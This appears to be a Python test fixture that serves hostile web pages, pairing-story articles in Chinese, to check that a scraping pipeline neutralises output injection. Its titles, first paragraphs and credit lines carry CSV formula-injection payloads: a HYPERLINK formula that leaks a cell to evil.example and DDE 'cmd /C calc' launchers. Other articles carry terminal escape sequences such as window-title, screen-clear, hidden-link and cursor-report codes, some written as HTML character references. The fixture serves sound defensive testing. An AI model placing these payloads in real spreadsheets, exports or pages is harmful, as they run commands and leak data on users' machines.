"""Class 3, output injection: pages whose titles, bylines and texts would run as spreadsheet formulas in a
CSV cell or drive the terminal that prints them (ANSI colours, screen clears, OSC window titles and hidden
links, C1 control sequences).

The listing `/c03/list.html` links every article; each article is a different pairing story (so none is
taken for a copy of another), and its hostile part is in its title, its byline or its first paragraph.
"""

from __future__ import annotations

from html import escape

from tests.hostile import Case, HostileHandler, Route

# What each article carries where a spreadsheet or a terminal would act on it, by path.
FORMULA_TITLES = {
    "a/hyperlink.html": '=HYPERLINK("http://evil.example/?leak="&A1,"学校结对帮扶")',
    "a/at-sum.html": "@SUM(1+1)*cmd|' /C calc'!A0 学校结对帮扶",
    "a/minus.html": "-2+3+cmd|' /C calc'!A0 两地学校结对",
}
FORMULA_TEXTS = {
    "a/plus-text.html": "+cmd|' /C notepad'!A0 两地学校结对帮扶，教师互派交流。",
}
# Credit lines under the story, which the clean stage reads as its author and its outlet.
FORMULA_CREDITS = {
    "a/at-author.html": ("@admin", "=cmd|' /C calc'!A0"),
}
# Cells that start with a tab or a carriage return: a spreadsheet drops the blank and reads the formula.
BLANK_LED = {
    "a/tab-led.html": "\t=1+2 两地学校结对",
    "a/cr-led.html": "\r=1+2 两地学校结对",
}
ESCAPE_TITLES = {
    # sets the terminal's window title (OSC 0), then colours the rest red
    "a/osc-title.html": "学校结对\x1b]0;owned\x07帮扶\x1b[31m红色",
}
ESCAPE_TEXTS = {
    # clears the screen, hides a link (OSC 8) and asks the terminal to report its cursor (C1 CSI)
    "a/ansi-text.html": (
        "两地学校结对帮扶\x1b[2J\x1b[H，教师互派交流\x1b]8;;http://evil.example/\x1b\\链接\x1b]8;;\x1b\\"
        "，学生手拉手\x9b6n。"
    ),
}

# Sentences of pairing stories, so that each article's text is its own (dedup keeps copies apart).
SENTENCES = [
    "两地学校结对帮扶，教师互派交流，共建教育共同体。",
    "城区学校与乡村学校签订结对协议，开展送教下乡活动。",
    "结对学校组织学生手拉手活动，互赠书信和图书。",
    "帮扶学校派出骨干教师支教一年，指导课堂教学改革。",
    "两校共享优质课程资源，开展同步课堂和联合教研。",
    "结对双方校长互访，商定下一学年的帮扶计划。",
    "受援学校的教师到城区学校跟岗学习，提升教学能力。",
    "教育局推动城乡学校结对全覆盖，促进教育均衡发展。",
    "结对学校共同举办科技节和读书节，学生同台展示。",
    "对口支援学校捐建图书室和实验室，改善办学条件。",
]


def story(seed: int) -> list[str]:
    """Four paragraphs of a pairing story, in an order of its own."""
    order = [SENTENCES[(seed * 3 + k * 7) % len(SENTENCES)] for k in range(len(SENTENCES))]
    return ["".join(order[k : k + 3]) + f"第{seed}次活动圆满结束。" for k in range(0, 8, 2)]


def page(seed: int, title: str, first: str | None = None, credits: tuple[str, str] | None = None) -> bytes:
    paragraphs = ([first] if first else []) + story(seed)
    if credits:
        paragraphs += [f"作者：{credits[0]}", f"来源：{credits[1]}"]
    body = "".join(f"<p>{escape(p)}</p>" for p in paragraphs)
    return (
        f'<html><head><meta charset="utf-8"><title>{escape(title)}</title></head>'
        f"<body><article><h1>{escape(title)}</h1>{body}</article></body></html>"
    ).encode()


def _article(
    seed: int, title: str, first: str | None = None, credits: tuple[str, str] | None = None
) -> Route:
    def route(handler: HostileHandler) -> None:
        handler.send_body(page(seed, title, first, credits))

    return route


def _articles() -> dict[str, Route]:
    routes: dict[str, Route] = {}
    seed = 0
    for path, title in {**FORMULA_TITLES, **ESCAPE_TITLES}.items():
        seed += 1
        routes[path] = _article(seed, title)
    for path, text in {**FORMULA_TEXTS, **ESCAPE_TEXTS, **BLANK_LED}.items():
        seed += 1
        routes[path] = _article(seed, f"第{seed}批学校结对帮扶", first=text)
    for path, credits in FORMULA_CREDITS.items():
        seed += 1
        routes[path] = _article(seed, f"第{seed}批学校结对交流", credits=credits)
    return routes


ARTICLES = _articles()

# The same escapes written as character references, which the HTML parser turns into the characters.
ENTITY_PATH = "a/entity-escapes.html"


def _entity_escapes(handler: HostileHandler) -> None:
    paragraphs = "".join(f"<p>{escape(p)}</p>" for p in story(len(ARTICLES) + 1))
    handler.send_body(
        (
            '<html><head><meta charset="utf-8"><title>结对&#27;]0;owned&#7;帮扶学校</title></head><body>'
            "<article><h1>结对&#x1b;[31m帮扶学校</h1><p>两地学校结对&#27;[2J帮扶&#x9b;6n，教师互派交流。</p>"
            f"{paragraphs}</article></body></html>"
        ).encode()
    )


ARTICLES[ENTITY_PATH] = _entity_escapes


def _listing(handler: HostileHandler) -> None:
    links = "".join(f'<li><a href="/c03/{path}">{n}</a></li>' for n, path in enumerate(ARTICLES))
    handler.send_body(f"<html><body><ul>{links}</ul></body></html>".encode())


CASES = [
    Case(
        klass=3,
        name="formula-titles",
        does="titles that start with =, @ or - (HYPERLINK, SUM, DDE cmd): formulas in a CSV cell",
        routes={"list.html": _listing, **{p: ARTICLES[p] for p in FORMULA_TITLES}},
    ),
    Case(
        klass=3,
        name="formula-text-and-author",
        does="a text whose first paragraph starts with +cmd, an author @admin and an outlet =cmd",
        routes={p: ARTICLES[p] for p in {**FORMULA_TEXTS, **FORMULA_CREDITS}},
    ),
    Case(
        klass=3,
        name="tab-and-cr-led-cells",
        does="texts whose first character is a tab or a carriage return before a formula",
        routes={p: ARTICLES[p] for p in BLANK_LED},
    ),
    Case(
        klass=3,
        name="terminal-escapes",
        does="a title with an OSC window title and colours, a text with a screen clear, an OSC 8 link, C1 CSI",
        routes={p: ARTICLES[p] for p in {**ESCAPE_TITLES, **ESCAPE_TEXTS}},
    ),
    Case(
        klass=3,
        name="escapes-as-character-references",
        does="the same escapes written &#27; and &#x9b;, which the HTML parser turns into the characters",
        routes={ENTITY_PATH: _entity_escapes},
    ),
]
